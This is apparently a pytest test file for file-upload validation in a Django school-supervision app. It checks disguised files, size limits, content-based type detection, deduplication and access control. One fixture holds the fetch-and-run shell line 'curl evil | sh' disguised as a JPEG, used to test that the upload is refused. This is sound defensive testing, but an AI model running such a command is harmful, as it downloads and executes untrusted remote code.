import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from dudao.core import files as uploads
from dudao.core.errors import DomainError
from dudao.visits import services
from dudao.visits.models import Attachment
from tests.factories_supervision import VisitFactory

from .conftest import png_bytes

MB = 1024 * 1024


def _upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def _refused(upload) -> str:
    with pytest.raises(DomainError) as error, translation.override("en"):
        uploads.check_upload(upload)
    return str(error.value)


def test_script_renamed_jpg_is_refused():
    message = _refused(_upload("photo.jpg", b"#!/bin/sh\ncurl evil | sh\n", "image/jpeg"))
    assert "photo.jpg" in message
    assert "not an accepted file" in message


def test_html_claiming_to_be_pdf_is_refused():
    assert "report.pdf" in _refused(
        _upload("report.pdf", b"<html><script>x</script>", "application/pdf")
    )


def test_empty_file_is_refused():
    message = _refused(_upload("empty.png", b"", "image/png"))
    assert "empty.png" in message
    assert "empty" in message


def test_oversize_image_is_refused_by_its_kind_limit():
    big_png = b"\x89PNG\r\n\x1a\n" + b"\0" * (10 * MB)
    message = _refused(_upload("huge.png", big_png, "image/png"))
    assert "huge.png" in message
    assert "10 MB" in message


def test_file_over_every_limit_is_refused_before_reading():
    message = _refused(_upload("film.mp3", b"ID3" + b"\0" * (20 * MB), "audio/mpeg"))
    assert "20 MB" in message


def test_truncated_image_is_refused():
    assert "broken.png" in _refused(_upload("broken.png", png_bytes()[:200], "image/png"))


def test_real_png_is_accepted_with_detected_type_and_digest():
    checked = uploads.check_upload(_upload("gate.jpg", png_bytes(), "image/jpeg"))
    assert checked.kind == "image"
    assert checked.content_type == "image/png"  # by content, not by name or claim
    assert checked.extension == "png"
    assert len(checked.sha256) == 64


def test_documents_are_accepted():
    docx = pytest.importorskip("docx")
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("整改报告")
    document.save(out)
    checked = uploads.check_upload(_upload("整改报告.docx", out.getvalue()))
    assert (checked.kind, checked.extension) == ("document", "docx")
    checked = uploads.check_upload(_upload("a.pdf", b"%PDF-1.4\n%...\n" + b"x" * 100))
    assert (checked.kind, checked.extension) == ("document", "pdf")


def test_kinds_can_be_restricted():
    with pytest.raises(DomainError):
        uploads.check_upload(_upload("a.pdf", b"%PDF-1.4\n" + b"x" * 100), kinds={"image"})


def test_attachment_keeps_original_and_makes_a_preview(world, png_upload):
    visit = VisitFactory(school=world.school, created_by=world.inspector_user)
    attachment = services.add_attachment(world.inspector_user, visit, png_upload)
    assert attachment.kind == "image"
    assert attachment.original_name == "校门.png"
    assert attachment.size == png_upload.size
    assert attachment.file.name.startswith("visits/")
    assert "校门" not in attachment.file.name  # storage names are random
    with Image.open(attachment.file.path) as original:
        assert original.size == (2000, 1000)
    with Image.open(attachment.preview.path) as preview:
        assert preview.format == "JPEG"
        assert max(preview.size) == 1280


def test_same_file_uploaded_twice_is_one_attachment(world):
    visit = VisitFactory(school=world.school, created_by=world.inspector_user)
    content = png_bytes(300, 200)
    first = services.add_attachment(world.inspector_user, visit, _upload("a.png", content))
    again = services.add_attachment(world.inspector_user, visit, _upload("a.png", content))
    assert again.pk == first.pk
    assert Attachment.objects.count() == 1


def test_attachment_to_someone_elses_visit_is_refused(world, png_upload):
    visit = VisitFactory(school=world.school, created_by=world.inspector_user)
    with pytest.raises(DomainError):
        services.add_attachment(world.zone_leader, visit, png_upload)
    assert not Attachment.objects.exists()


def test_refused_upload_writes_nothing(world, media_root):
    visit = VisitFactory(school=world.school, created_by=world.inspector_user)
    with pytest.raises(DomainError):
        services.add_attachment(world.inspector_user, visit, _upload("x.jpg", b"MZ\x90\x00"))
    assert not Attachment.objects.exists()
    assert not media_root.exists() or not any(media_root.rglob("*.*"))
